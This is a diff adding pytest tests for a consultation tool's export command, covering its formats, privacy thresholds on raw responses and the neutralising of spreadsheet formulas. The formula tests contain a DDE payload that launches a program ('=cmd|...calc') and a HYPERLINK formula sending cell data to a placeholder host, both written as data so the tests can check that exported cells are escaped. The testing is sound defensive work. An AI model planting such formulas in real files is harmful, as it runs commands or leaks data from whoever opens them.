@@ -1,0 +1,219 @@
+"""`consult export`: what is released, or with --raw one row a response that cannot be told from nine others."""
+
+from __future__ import annotations
+
+import csv
+import json
+from collections import Counter
+from dataclasses import replace
+from io import StringIO
+
+import openpyxl
+import pytest
+from sqlalchemy import select, update
+
+from consult.accounts.models import StaffEvent
+from consult.answering.models import Response
+from consult.domain.answers import Value
+from consult.extensions import db
+from consult.results import actions, export, queries, sheets
+from consult.results.sheets import Sheet, guarded
+from tests.answering.factories import NOW
+from tests.results.factories import AFTER, answer, count, crowd, make_answered
+
+FORMS = ("csv", "xlsx", "json")
+
+
+def read(file):
+    """The rows of a file as texts by heading."""
+    if file.suffix == ".csv":
+        return list(csv.DictReader(StringIO(file.read_bytes().decode(), newline="")))
+    if file.suffix == ".json":
+        data = json.loads(file.read_text())
+        rows = data["cells"] if isinstance(data, dict) else data
+        return [{key: text(value) for key, value in row.items()} for row in rows]
+    first, *rows = openpyxl.load_workbook(file).worksheets[-1].iter_rows(values_only=True)
+    return [dict(zip(first, map(text, row), strict=True)) for row in rows]
+
+
+def text(value):
+    """As a CSV file says it."""
+    return "" if value is None else str(value)
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_before_publication_it_writes_what_would_be_published(consult, tmp_path, answered, form):
+    file = tmp_path / f"out.{form}"
+    told = json.loads(consult("export", "phones", "--format", form, "--output", file).output)
+    assert told["published"] is None and told["responses"] == 73 and told["figures"] == len(read(file)) > 10
+    before = read(file)
+    actions.publish(answered, by=None, now=AFTER)
+    db.session.commit()
+    again = json.loads(consult("export", "phones", "--format", form, "--output", file).output)
+    assert again["published"] == AFTER.date().isoformat() and read(file) == before
+
+
+def test_the_three_formats_agree(consult, tmp_path, answered):
+    found = []
+    for form in FORMS:
+        consult("export", "phones", "--format", form, "--output", tmp_path / f"out.{form}")
+        rows = read(tmp_path / f"out.{form}")
+        found.append([(row["question"], row["row"], row["answer"], row["people"].replace("[c]", "")) for row in rows])
+    assert found[0] == found[1] == found[2]
+
+
+def test_the_workbook_is_one_marked_table_a_sheet_with_one_row_of_headings(consult, tmp_path, answered):
+    consult("export", "phones", "--format", "xlsx", "--output", tmp_path / "out.xlsx")
+    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
+    assert book.sheetnames == ["Cover", "Notes", "Results"]
+    for sheet in book.worksheets:
+        assert list(sheet.tables) == [sheet.title] and not sheet.merged_cells.ranges
+        headings = [cell.value for cell in sheet[1]]
+        assert all(headings) and len(set(headings)) == len(headings)
+
+
+@pytest.mark.parametrize("form", export.LATER_FORMATS)
+def test_a_format_of_later_is_refused_with_a_sentence(consult, tmp_path, answered, form):
+    done = consult("export", "phones", "--format", form, "--output", tmp_path / "out")
+    assert done.exit_code == 1 and f"cannot be written as {form} yet" in done.output
+    assert not (tmp_path / "out").exists()
+
+
+def test_odd_requests_get_a_sentence(consult, tmp_path, answered):
+    lost = consult("export", "nope", "--format", "csv", "--output", tmp_path / "out.csv")
+    assert lost.exit_code != 0 and "no such consultation" in (lost.output + str(lost.exception)).lower()
+    nowhere = consult("export", "phones", "--format", "csv", "--output", tmp_path / "none" / "out.csv")
+    assert nowhere.exit_code == 1 and "There is no folder" in nowhere.output
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_raw_is_a_row_for_each_response_with_comments_apart(consult, tmp_path, answered, form):
+    file = tmp_path / f"out.{form}"
+    told = json.loads(consult("export", "phones", "--format", form, "--output", file, "--raw").output)
+    rows, comments = read(file), read(tmp_path / f"out-comments.{form}")
+    assert told["responses"] == len(rows) == 73 and told["comments"] == len(comments) == 36
+    assert Counter(row["how"] for row in rows) == {"easy": 40, "hard": 30, "other": 3}
+    assert Counter(row["which/web"] for row in rows)["1"] == Counter(row["which/walk"] for row in rows)["1"] > 0
+    assert Counter(row["grid/line"] for row in rows) == {"bad": 36, "": 37}
+    assert sum(int(row["times"]) for row in rows if row["times"]) == sum(at % 30 for at in range(73) if at % 2)
+    assert not any("Comment" in value for row in rows for value in row.values())
+    assert set(comments[0]) == {"question", "row", "comment"}
+    assert {row["comment"] for row in comments} == {f"Comment {at:03}" for at in range(73) if at % 2}
+    logged = db.session.scalars(select(StaffEvent).where(StaffEvent.verb == "export_raw")).one()
+    assert logged.thing == "consultation phones" and logged.account_id is None
+
+
+def test_a_row_names_no_response_and_comes_in_the_order_of_nothing(consult, tmp_path, answered):
+    consult("export", "phones", "--format", "csv", "--output", tmp_path / "out.csv", "--raw")
+    keys = {str(key) for key in db.session.scalars(select(Response.id))}
+    written = (tmp_path / "out.csv").read_text() + (tmp_path / "out-comments.csv").read_text()
+    assert not any(key in written for key in keys) and "2026" not in written
+    comments = [row["comment"] for row in read(tmp_path / "out-comments.csv")]
+    assert comments != sorted(comments)
+
+
+def test_under_ten_responses_no_row_leaves(app, consult, tmp_path, database, clock):
+    clock.set(AFTER)
+    make_answered(app, crowd(9, 0, 0))
+    done = consult("export", "phones", "--format", "csv", "--output", tmp_path / "out.csv", "--raw")
+    assert done.exit_code != 0 and "Fewer than 10" in done.output + str(done.exception)
+    assert (
+        not list(tmp_path.glob("out*"))
+        and not db.session.scalars(select(StaffEvent.id).where(StaffEvent.verb == "export_raw")).all()
+    )
+
+
+def test_on_a_live_site_no_row_leaves_before_closing(app, consult, tmp_path, database, clock):
+    clock.set(NOW)
+    make_answered(app, closed=False)
+    app.config["CONSULT"] = replace(app.config["CONSULT"], env="production")
+    done = consult("export", "phones", "--format", "csv", "--output", tmp_path / "out.csv", "--raw")
+    assert done.exit_code != 0 and "has closed" in done.output + str(done.exception)
+    clock.set(AFTER)
+    done = consult("export", "phones", "--format", "csv", "--output", tmp_path / "out.csv", "--raw")
+    assert done.exit_code != 0 and "still waiting" in done.output + str(done.exception)
+
+
+def test_what_is_about_somebody_is_blank_where_few_share_it(app, database, clock):
+    clock.set(AFTER)
+    people = [answer(how="easy", born="1950-01-01")] * 20 + [answer(how="easy", born="1960-02-02")] * 12
+    people += [answer(how="hard", born="1999-09-09")] * 3
+    consultation = make_answered(app, people)
+    headings, rows = export.personal_level(consultation, least=10)
+    written = [dict(zip(headings, row, strict=True)) for row in rows]
+    assert Counter((row["born"], row["language"]) for row in written) == {("1950-01-01", "en"): 20, (None, None): 15}
+    assert Counter(row["how"] for row in written) == {"easy": 32, "hard": 3}, "other answers stay"
+
+
+@pytest.mark.parametrize(
+    ("counts", "kept"),
+    [
+        ({"a": 30, "b": 12}, {"a", "b"}),
+        ({"a": 30, "b": 12, "c": 1}, {"a"}),
+        ({"a": 30, "b": 6, "c": 5}, {"a"}),
+        ({"a": 11, "b": 9}, set()),
+        ({"a": 9}, set()),
+    ],
+)
+def test_blank_rows_are_never_few(counts, kept):
+    listed = [one.encode() for one, many in counts.items() for _ in range(many)]
+    blank = export._rare(listed, least=10)
+    assert {one.encode() for one in kept} == set(listed) - blank
+
+
+def test_labels_that_too_few_share_are_blank(app, database, clock):
+    clock.set(AFTER)
+    consultation = make_answered(app, crowd(30, 0, 0))
+    count(consultation, crowd(0, 4, 0), language="pl")
+    headings, rows = export.personal_level(consultation, least=10)
+    assert Counter(row[headings.index("language")] for row in rows) == {None: 34}
+    db.session.execute(update(Response).values(language="en"))
+    _headings, rows = export.personal_level(consultation, least=10)
+    assert Counter(row[headings.index("language")] for row in rows) == {"en": 34}
+
+
+@pytest.mark.parametrize(
+    "said",
+    ["=1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "=cmd|' /C calc'!A0", "-", "+"],
+)
+def test_no_cell_of_a_csv_file_is_a_formula(said, tmp_path):
+    sheets.write_rows(tmp_path / "out.csv", "csv", Sheet("S", ("h",), [(said,)]))
+    cell = list(csv.reader(StringIO((tmp_path / "out.csv").read_bytes().decode(), newline="")))[1][0]
+    assert cell == f"'{said}"
+
+
+@pytest.mark.parametrize("said", ["-99", "+441", "-2.5", 7, -7, "a=b", ""])
+def test_what_does_no_harm_stays_as_it_is(said):
+    assert guarded(said) == said
+
+
+def test_formulas_that_people_write_are_text_in_every_format(app, consult, tmp_path, database, clock):
+    clock.set(AFTER)
+    danger = '=HYPERLINK("http://example.org/?"&A1,"x")'
+    make_answered(app, [{"why": (Value(text=danger),), **answer(how="easy")} for _ in range(12)])
+    for form in FORMS:
+        consult("export", "phones", "--format", form, "--output", tmp_path / f"out.{form}", "--raw")
+    assert {row["comment"] for row in read(tmp_path / "out-comments.csv")} == {f"'{danger}"}
+    assert {row["comment"] for row in read(tmp_path / "out-comments.json")} == {danger}
+    sheet = openpyxl.load_workbook(tmp_path / "out-comments.xlsx").worksheets[0]
+    assert {(cell.value, cell.data_type) for cell in sheet["C"][1:]} == {(danger, "s")}
+
+
+def test_a_comment_longer_than_a_cell_says_that_it_was_cut(tmp_path):
+    sheets.write_rows(tmp_path / "out.xlsx", "xlsx", Sheet("S", ("h",), [("x" * 40_000,), ("\x01\ud7ff",)]))
+    cell = openpyxl.load_workbook(tmp_path / "out.xlsx").worksheets[0]["A2"].value
+    assert len(cell) == sheets.LONGEST_CELL and cell.endswith(sheets.CUT)
+
+
+def test_rows_are_read_in_portions(monkeypatch, answered):
+    monkeypatch.setattr(queries, "PORTION", 7)
+    _headings, rows = export.personal_level(answered, least=10)
+    assert len(list(rows)) == 73
+    assert len({one[2] for one in export.comment_rows(answered)}) == 36
+
+
+def test_a_workbook_that_cannot_hold_all_rows_is_refused(monkeypatch, consult, tmp_path, answered):
+    monkeypatch.setattr(sheets, "MOST_ROWS", 72)
+    done = consult("export", "phones", "--format", "xlsx", "--output", tmp_path / "out.xlsx", "--raw")
+    assert done.exit_code != 0 and "choose csv or json" in done.output + str(done.exception)
+    assert not list(tmp_path.glob("out*"))
